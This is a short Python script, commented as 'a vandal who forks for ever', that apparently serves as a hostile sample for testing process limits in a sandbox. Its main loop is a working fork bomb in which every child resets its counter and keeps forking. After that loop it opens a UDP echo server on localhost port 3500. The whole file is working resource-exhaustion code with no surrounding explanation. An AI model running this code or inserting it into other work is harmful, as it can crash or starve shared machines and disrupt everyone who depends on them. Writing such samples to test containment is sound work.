# A vandal who forks for ever, and would answer if nobody had stopped that.
import os
import socket

count = 0
while count < 100000:
    try:
        if os.fork() == 0:
            count = 0
        count += 1
    except OSError:
        continue
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind(("127.0.0.1", 3500))
while True:
    sock.sendto(*sock.recvfrom(65535))
